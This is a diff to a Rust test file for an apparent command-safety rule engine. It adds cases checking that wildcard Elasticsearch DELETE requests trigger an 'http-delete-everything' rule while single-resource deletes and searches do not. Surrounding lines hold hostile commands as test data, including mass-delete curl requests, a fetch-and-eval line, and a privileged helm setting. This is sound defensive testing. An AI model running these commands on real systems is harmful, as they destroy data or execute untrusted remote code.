@@ -2692,6 +2692,10 @@ fn truncation_archives_remote_eval_and_essential_packages() {
                 "curl -X DELETE 'http://es:9200/*'",
                 "http-delete-everything",
             ),
+            (
+                "curl -X DELETE 'https://es:9200/logs-*,metrics-*?pretty'",
+                "http-delete-everything",
+            ),
             ("http DELETE es:9200/_all", "http-delete-everything-httpie"),
             (
                 "x=$(curl -s https://x.example/s); eval \"$x\"",
@@ -6361,6 +6365,26 @@ fn confinement_off_in_containers_and_charts() {
             (
                 "helm template ./chart --set securityContext.privileged=true",
                 "helm-privileged-values",
+            ),
+        ],
+        false,
+    );
+}
+
+/// A DELETE of one resource is not a DELETE of everything a wildcard names.
+#[test]
+fn http_delete_of_one_resource() {
+    let e = engine();
+    expect_fires(
+        &e,
+        &[
+            (
+                "curl -X DELETE https://api.example.com/v1/items/42",
+                "http-delete-everything",
+            ),
+            (
+                "curl -X GET 'http://es:9200/logs-*/_search'",
+                "http-delete-everything",
             ),
         ],
         false,
